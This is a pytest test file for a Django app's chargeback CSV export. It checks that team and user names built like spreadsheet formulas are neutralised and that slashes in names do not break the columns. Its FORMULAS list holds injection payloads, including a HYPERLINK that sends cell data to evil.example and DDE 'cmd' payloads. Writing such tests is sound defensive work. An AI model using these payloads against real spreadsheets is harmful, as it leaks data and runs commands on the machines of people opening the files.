"""Attacks on the chargeback CSV: a team or user named like a spreadsheet formula was written
raw (formula injection when finance opens the file), and a ``/`` in a team or user name shifted
the columns, because rows were rebuilt by splitting a ``team/user/class`` key."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal
from typing import Any

import pytest
from django.test import Client

from apps.common.spreadsheet import safe_cell
from apps.telemetry.models import UsageDay
from apps.workloads import core as wl
from tests.factories import UserFactory, WorkloadFactory
from tests.plugins.cast import Cast

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("https://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _usage(cast: Cast, **workload: Any) -> None:
    values: dict[str, Any] = {
        "team": cast.team,
        "owner": cast.owner,
        "gpu_class": cast.gpu_class,
        "state": wl.RUNNING,
    }
    values.update(workload)
    running = WorkloadFactory(**values)
    UsageDay.objects.create(
        day=date.today(),
        workload=running,
        team=running.team,
        owner=running.owner,
        gpu_class=running.gpu_class,
        allocated_gpu_seconds=7200,
        used_gpu_seconds=3600,
        cost=Decimal("9"),
    )


def _csv_rows(cast: Cast) -> list[dict[str, str]]:
    client = Client()
    client.force_login(cast.admin)
    response = client.get("/usage/chargeback/", {"month": f"{date.today():%Y-%m}", "format": "csv"})
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(response.content.decode())))


@pytest.mark.parametrize("name", FORMULAS)
def test_chargeback_csv_neutralises_a_team_named_like_a_formula(cast: Cast, name: str) -> None:
    cast.team.name = name
    cast.team.save(update_fields=["name"])
    _usage(cast)
    (row,) = _csv_rows(cast)
    assert row["team"] == f"'{name}"
    assert row["user"] == "owner"


def test_chargeback_csv_neutralises_a_user_named_like_a_formula(cast: Cast) -> None:
    _usage(cast, owner=UserFactory(username="=1+1"))
    (row,) = _csv_rows(cast)
    assert row["user"] == "'=1+1"


def test_chargeback_csv_keeps_its_columns_when_a_team_or_user_name_holds_a_slash(
    cast: Cast,
) -> None:
    cast.team.name = "ML / Vision"
    cast.team.save(update_fields=["name"])
    _usage(cast, owner=UserFactory(username="alice/h"))
    (row,) = _csv_rows(cast)
    assert (row["team"], row["user"], row["gpu_class"]) == (
        "ML / Vision",
        "alice/h",
        cast.gpu_class.name,
    )
    assert row["cost"] == "9.00"
    assert row["allocated_gpu_hours"] == "2.000"


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("Vision", "Vision"),
        ("", ""),
        ("a=b", "a=b"),
        ("=x", "'=x"),
        ("+x", "'+x"),
        ("-x", "'-x"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("\0x", "'\0x"),
    ],
)
def test_safe_cell_prefixes_only_cells_a_spreadsheet_would_evaluate(
    value: str, written: str
) -> None:
    assert safe_cell(value) == written
